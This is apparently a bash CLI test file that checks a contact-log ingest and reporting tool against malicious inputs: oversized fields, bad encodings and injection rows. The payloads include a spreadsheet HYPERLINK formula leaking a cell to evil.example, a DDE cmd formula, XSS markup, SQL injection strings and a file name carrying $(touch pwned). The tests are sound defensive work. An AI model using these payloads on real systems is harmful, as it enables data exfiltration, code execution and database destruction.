#!/usr/bin/env bash
# hostile: contact logs written to hurt (issue 17).  Each hostile row sits
# between good rows; each gives a clear reason or a safe, escaped result,
# never a crash, and the good rows around it always load.  Big inputs are
# made here, never committed:
#   a 100 MB line, a million columns, 10 MB fields (quoted and not), NUL
#   bytes, invalid and overlong UTF-8, byte order marks inside the file,
#   CR alone as line end, formulas, markup and SQL in text fields, odd
#   output file names.
# Memory: the ingests run under ulimit -v (not in a sanitizer build, whose
# shadow memory needs terabytes of address space).
# Env: NS_BIN, NS_SRC (set by CTest).
. "$NS_SRC/tests/cli/lib.sh"
REPORT=$NS_BIN/needstat-report
P=needstat-ingest
HDR=contact_id,started_at,channel,language,postal_code,region,age_group,gender,need_code,need_category,need_status,unmet_reason,referrals,referred_to
LIMIT_KB=262144                      # 256 MiB of address space
if ldd "$INGEST" 2>/dev/null | grep -q 'lib[at]san'; then
	LIMIT_KB=unlimited
fi

good() {  # good ID [AGENCY]: one valid row
	printf '%s,2024-05-01T10:00:00-05:00,phone,en,K1A 0B1,,25-34,woman,BD-1800,,met,,1,%s\n' "$1" "${2:-}"
}

# bounded DB FILE: ingest FILE into DB under the memory limit, with the
# rejects file r.csv
bounded() {
	rm -f r.csv
	( ulimit -v "$LIMIT_KB"; exec "$INGEST" --db "$1" --rejects r.csv "$2" ) \
		>out 2>err
	RC=$?
}

ids() { q "$1" "SELECT group_concat(source_contact_id, ' ') FROM (SELECT source_contact_id FROM contacts ORDER BY 1)"; }

# reject_reason: "line|column|reason" of the rejects file's data rows
reject_reason() {
	python3 -c '
import csv, sys
csv.field_size_limit(1 << 30)
for r in list(csv.reader(open("r.csv", newline="", encoding="utf-8", errors="replace")))[1:]:
    print("%s|%s|%s" % (r[1], r[2], r[4]))'
}

# 1. A 100 MB line (one field): rejected naming the column, memory bounded
{
	echo "$HDR"; good A1
	head -c 100000000 /dev/zero | tr '\0' 'a'; echo
	good A2
} >line.csv
init_db a.db
bounded a.db line.csv
expect_rc 0 "100 MB line"
expect_line err "$P: line.csv:3: column 'contact_id' is longer than 64 KiB" "100 MB line: message"
expect_eq "$(ids a.db)" "A1 A2" "100 MB line: the rest loads"
expect_eq "$(reject_reason)" "3|contact_id|column 'contact_id' is longer than 64 KiB" "100 MB line: rejects file"
rm -f line.csv

# 2. A million columns
{
	echo "$HDR"; good B1
	head -c 1000000 /dev/zero | tr '\0' ',' | sed 's/,/x,/g'; echo
	good B2
} >cols.csv
init_db b.db
bounded b.db cols.csv
expect_rc 0 "a million columns"
expect_line err "$P: cols.csv:3: has more than 4096 fields, the header has 14" "a million columns: message"
expect_eq "$(ids b.db)" "B1 B2" "a million columns: the rest loads"
# ... and 25 million (a 50 MB line of "a,": it took 673 MB before)
{
	echo "$HDR"; good B3
	head -c 25000000 /dev/zero | tr '\0' ',' | sed 's/,/a,/g'; echo
	good B4
} >cols.csv
bounded b.db cols.csv
expect_rc 0 "25 million columns"
expect_line err "$P: cols.csv:3: has more than 4096 fields, the header has 14" "25 million columns: message"
expect_eq "$(ids b.db)" "B1 B2 B3 B4" "25 million columns: the rest loads"
rm -f cols.csv

# 3. Fields of 10 MB: unquoted, and quoted with commas, quotes and
# newlines inside (the next line numbers stay right)
{
	echo "$HDR"; good C1
	printf 'C2,2024-05-01,phone,en,K1A 0B1,,,,BD-1800,,met,,1,'
	head -c 10000000 /dev/zero | tr '\0' 'b'; echo
	printf 'C3,2024-05-01,phone,en,K1A 0B1,,,,BD-1800,,met,,1,"'
	head -c 10000000 /dev/zero | tr '\0' 'q' | sed 's/qqqqqqqqqq/q,"",q\nqqq/g'
	printf '"\n'
	good C4
	echo 'C5,2024-05-32,phone,en,K1A 0B1,,,,BD-1800,,met,,1,'
} >fields.csv
lines=$(wc -l <fields.csv)
init_db c.db
bounded c.db fields.csv
expect_rc 0 "10 MB fields"
expect_line err "$P: fields.csv:3: column 'referred_to' is longer than 64 KiB" "10 MB unquoted field: message"
expect_line err "$P: fields.csv:4: column 'referred_to' is longer than 64 KiB" "10 MB quoted field: message"
expect_line err "$P: fields.csv:$lines: column 'started_at': '2024-05-32' is not a date (day out of range for the month)" "10 MB fields: line numbers after them"
expect_eq "$(ids c.db)" "C1 C4" "10 MB fields: the rest loads"
rm -f fields.csv

# 4. NUL bytes, invalid and overlong UTF-8, byte order marks inside the
# file, CR alone as line end
{
	echo "$HDR"; good D1
	printf 'D2,2024-05-01,phone,en,K1A 0B1,,,,BD-1800,,met,,1,Food\0Bank\n'
	printf 'D3,2024-05-01,phone,en,K1A 0B1,,,,BD-1800,,met,,1,Caf\xe9\n'
	printf 'D4,2024-05-01,phone,en,K1A 0B1,,,,BD-1800,,met,,1,\xc0\xaf\n'
	printf 'D5,2024-05-01,phone,en,K1A 0B1,,,,BD-1800,,met,,1,\xed\xa0\x80\n'
	printf '\xef\xbb\xbfD6,2024-05-01,phone,en,K1A 0B1,,,,BD-1800,,met,,1,\xef\xbb\xbfShelter\n'
	printf '\xef\xbb\xbf%s\n' "$HDR"             # a second file put after the first
	good D7 Shelter
} >odd.csv
init_db d.db
bounded d.db odd.csv
expect_rc 0 "odd bytes"
expect_line err "$P: odd.csv:3: contains a NUL byte" "NUL byte"
expect_line err "$P: odd.csv:4: column 14 is not valid UTF-8" "Latin-1 byte"
expect_line err "$P: odd.csv:5: column 14 is not valid UTF-8" "overlong UTF-8"
expect_line err "$P: odd.csv:6: column 14 is not valid UTF-8" "UTF-8 surrogate"
expect_eq "$(ids d.db)" "D1 D6 D7" "odd bytes: the rest loads"
expect_eq "$(q d.db "SELECT count(DISTINCT agency) || '|' || hex(min(agency)) FROM referrals WHERE agency LIKE '%Shelter'")" \
	"1|$(printf Shelter | od -An -tx1 | tr -d ' \n' | tr a-f A-F)" "a BOM at a field's start is dropped"
grep -q "odd.csv:8: column 'started_at'" err || fail "a second header: rejected as a row with its line: $(cat err)"

printf '%s\r%s\r%s\r%s\r' "$HDR" "$(good E1)" \
	"E2,2024-05-32,phone,en,K1A 0B1,,,,BD-1800,,met,,1," "$(good E3)" >cr.csv
init_db e.db
bounded e.db cr.csv
expect_rc 0 "CR line ends"
expect_line err "$P: cr.csv:3: column 'started_at': '2024-05-32' is not a date (day out of range for the month)" "CR line ends: line numbers"
expect_eq "$(ids e.db)" "E1 E3" "CR line ends: rows"

# 5. Formulas, markup and SQL in every text field: stored as written
# (bound, never spliced), shown safely: CSV cells that a spreadsheet would
# run are prefixed with ', HTML is escaped.
F1='=HYPERLINK("http://evil.example/?leak="&A1,"click")'
F2='+1+cmd|'"'"'/c calc'"'"'!A0'
F3='-2+3'
F4='@SUM(A1:A9)'
X1='<script>alert(1)</script> & <b onmouseover=x>'
S1="x'); DROP TABLE contacts --"     # (';' splits referred_to: not there)
S2="Bobby' OR '1'='1' --"
i=0
{
	echo "$HDR"
	for a in "$F1" "$F2" "$F3" "$F4" "$X1" "$S2"; do
		for n in 1 2 3 4 5 6; do
			i=$((i + 1))
			printf 'F%03d,2024-05-0%d,phone,en,K1A 0B1,,25-34,woman,BD-1800,,met,,1,"%s"\n' \
				"$i" "$n" "${a//\"/\"\"}"
		done
	done
	printf '"%s",2024-05-01,"%s","%s","%s","%s","%s","%s",BD-1800,"%s",met,"%s",1,ok\n' \
		"$S1" "$S1" "$S1" "$S1" "$S1" "$S1" "$S1" "$S1" "$S1"
} >inject.csv
init_db f.db
bounded f.db inject.csv
expect_rc 0 "injection rows"
expect_eq "$(q f.db "SELECT count(*) FROM contacts")" 37 "injection: every contact stored (SQL bound)"
expect_eq "$(q f.db "SELECT count(*) FROM contacts WHERE source_contact_id = '$(printf %s "$S1" | sed "s/'/''/g")'")" 1 "SQL text stored as written"
for a in "$F1" "$F2" "$F3" "$F4" "$X1" "$S2"; do
	expect_eq "$(q f.db "SELECT count(*) FROM referrals WHERE agency = '$(printf %s "$a" | sed "s/'/''/g")'")" 6 "agency stored as written: $a"
done
run "$REPORT" --db f.db --month 2024-05 --format csv -p top=10 referrals_top
expect_rc 0 "referrals_top csv"
python3 - "$F1" "$F2" "$F3" "$F4" <<'EOF' || fail "CSV cells: $(cat out)"
import csv, sys
cells = [c for row in csv.reader(open("out", newline="")) for c in row]
for f in sys.argv[1:]:
    assert "'" + f in cells, "no guarded cell for %r" % f
    assert f not in cells, "a bare formula cell %r" % f
for c in cells:
    assert not c or c[0] not in "=+@\t\r" or c.startswith("'"), c
print("ok")
EOF
run "$REPORT" --db f.db --month 2024-05 --format html -p top=10 referrals_top
expect_rc 0 "referrals_top html"
grep -q '&lt;script&gt;alert(1)&lt;/script&gt; &amp; &lt;b onmouseover=x&gt;' out || fail "html: agency escaped"
grep -q '<script>alert\|<b onmouseover' out && fail "html: markup from the data reached the page"
run "$REPORT" --db f.db --month 2024-05 --format md -p top=10 referrals_top
expect_rc 0 "referrals_top md"
grep -q '[^\\]<script>' out && fail "md: raw markup from the data"
expect_eq "$(q f.db "SELECT count(*) FROM sqlite_master WHERE name = 'contacts'")" 1 "contacts table still there"

# 6. Odd output names: written as given, never through a shell; a name
# that is a folder is refused (73).  (Outputs onto inputs, the database,
# symlinks and FIFOs: tests/cli of the outfile module.)
for name in 'a b.csv' '-dash.csv' 'semi;colon$(touch pwned).csv' "$(printf 'new\nline.csv')"; do
	run "$REPORT" --db f.db --month 2024-05 --format csv -o "./$name" volume
	expect_rc 0 "-o '$name'"
	[ -s "./$name" ] || fail "-o '$name': not written"
done
[ -e pwned ] && fail "an output name ran as a command"
mkdir adir
run "$REPORT" --db f.db --month 2024-05 --format csv -o adir volume
[ "$RC" -eq 73 ] || [ "$RC" -eq 74 ] || fail "-o a folder: exit $RC, expected 73 or 74"
[ -d adir ] || fail "-o a folder: the folder was replaced"

finish
